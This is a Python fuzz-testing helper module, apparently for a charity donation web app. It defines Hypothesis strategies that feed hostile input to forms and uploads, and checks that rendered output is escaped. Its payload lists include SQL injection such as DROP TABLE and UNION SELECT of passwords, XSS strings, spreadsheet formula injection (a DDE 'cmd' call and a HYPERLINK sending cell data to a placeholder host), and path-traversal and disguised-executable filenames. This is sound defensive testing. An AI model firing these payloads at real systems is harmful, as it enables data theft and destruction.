"""Hostile input for the fuzz tests, and the one hypothesis profile they all run under.

`make test` runs FUZZ_EXAMPLES (default 25) generated cases per test, derandomized so that CI
and a developer see the same cases; `FUZZ_EXAMPLES=500 pytest tests/fuzz` digs deeper locally.
"""

import os
from html import escape

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tests.conftest import FUZZ_CASES

settings.register_profile(
    "fuzz",
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", "25")),
    deadline=None,
    # The same cases on every run (CI is reproducible); no example database on disk.
    derandomize=True,
    database=None,
    # Each example builds its own client and rows inside the test body; the function-scoped
    # fixtures (db, a user, an organization) are shared by the examples on purpose.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.filter_too_much,
    ],
)
fuzz = settings.get_profile("fuzz")
# For tests whose every case renders a Wagtail admin screen or parses a workbook (~0.5 s each).
fuzz_heavy = settings(fuzz, max_examples=max(5, fuzz.max_examples * 2 // 5))


def count_case() -> None:
    """One generated case ran (the total is printed at the end of the run)."""
    FUZZ_CASES["run"] += 1


# --- Text -------------------------------------------------------------------------------------

SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE charity_donation; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "%' UNION SELECT password FROM charity_user --",
]
HTML = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert('x')</script>",
    "javascript:alert(1)",
    "{{ request.user }}{% debug %}",
]
UNICODE = [
    "\u202egnp.exe",  # right-to-left override
    "a\u200bb\u200dc\ufeff",  # zero-width space, joiner, BOM
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "مرحبا بالعالم",
    "李华\x00",  # NUL: PostgreSQL cannot store it
    "\r\n\t ",
    "Ａ１２",  # full-width
    "ℌ𝔢𝔩𝔩𝔬",
]
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
FORMULAS += ["+1+1", "-2+3", "=1+2"]

# Lone surrogates cannot be encoded as UTF-8, so no browser can post them: left out.
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60)
payload = st.sampled_from(SQL + HTML + UNICODE + FORMULAS)


@st.composite
def hostile_text(draw, max_size=400):
    """Short random unicode, a known payload, a payload wrapped in noise, or something long."""
    kind = draw(st.sampled_from(["random", "payload", "wrapped", "long"]))
    if kind == "random":
        return draw(any_text)
    if kind == "payload":
        return draw(payload)
    if kind == "wrapped":
        return draw(any_text) + draw(payload) + draw(any_text)
    return draw(payload) * (max_size // 5 + draw(st.integers(0, 50)))


# --- Numbers and money ------------------------------------------------------------------------

number_text = st.one_of(
    st.sampled_from(
        [
            "0",
            "-0",
            "0.00",
            "-1",
            "-200.50",
            "0.001",
            "1e309",
            "1E5",
            "NaN",
            "Infinity",
            "-inf",
            "1,000.00",
            "١٢٣",  # Arabic-Indic digits
            "１２",  # full-width digits
            "0x10",
            " 12 ",
            "12.345",
            "",
            "9" * 40,
            str(2**63),
            str(2**64 + 1),
            str(-(2**63) - 1),
        ]
    ),
    st.integers(min_value=-(2**80), max_value=2**80).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
    hostile_text(max_size=60),
)

currency_text = st.one_of(
    st.sampled_from(["", "cny", "CNY ", "XXX", "US", "USDD", "EUR", "JPY", "BTC", "人民币", "💰"]),
    st.text(min_size=0, max_size=5),
)

# --- Files ------------------------------------------------------------------------------------

filenames = st.one_of(
    st.sampled_from(
        [
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "receipt.pdf.exe",
            "receipt.exe",
            "receipt.PDF",
            ".htaccess",
            "a" * 300 + ".pdf",
            "<script>alert(1)</script>.pdf",
            "收据\u202efdp.exe",
            "receipt",
            "receipt.svg",
            "receipt.html",
        ]
    ),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00/\\"),
        min_size=1,
        max_size=40,
    ).map(lambda name: name + ".pdf"),
)

SIGNATURES = [
    b"%PDF-1.4\n",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff\xe0",
    b"MZ\x90\x00",  # a Windows executable
    b"PK\x03\x04",  # a zip
    b"<html><script>alert(1)</script>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"",
]
file_bytes = st.builds(
    lambda head, body: head + body,
    st.sampled_from(SIGNATURES),
    st.binary(max_size=2048),
)


# --- Checks -----------------------------------------------------------------------------------


def assert_no_raw_markup(html: str, value: str) -> None:
    """A value holding markup never reaches the page as markup (only escaped, if at all)."""
    if "<" in value or '"' in value:
        assert value not in html, f"unescaped payload rendered: {value[:80]!r}"


def assert_rendered_escaped(html: str, value: str) -> None:
    """The value is shown, and escaped (for values whose escaping shows)."""
    assert_no_raw_markup(html, value)
    shown = value.strip()
    if shown and "\x00" not in shown:
        assert escape(shown, quote=False) in html or escape(shown) in html, (
            f"stored value not shown: {shown[:80]!r}"
        )


# --- Form data --------------------------------------------------------------------------------


def storable_text(max_size: int):
    """Hostile text a form should accept and store as typed: no NUL, within the field's length."""
    return hostile_text(max_size=max_size).map(lambda text: text.replace("\x00", "")[:max_size])


@st.composite
def mutated(draw, valid: dict, hostile: dict, max_changes: int = 2):
    """A form's valid data (each value a strategy) with up to `max_changes` fields made hostile.

    Hostile values in every field would be refused nearly always; this way the storing path
    (stored exactly, rendered escaped) runs as often as the refusing one."""
    data = {name: draw(strategy) for name, strategy in valid.items()}
    names = draw(st.lists(st.sampled_from(sorted(hostile)), max_size=max_changes, unique=True))
    for name in names:
        data[name] = draw(hostile[name])
    return data
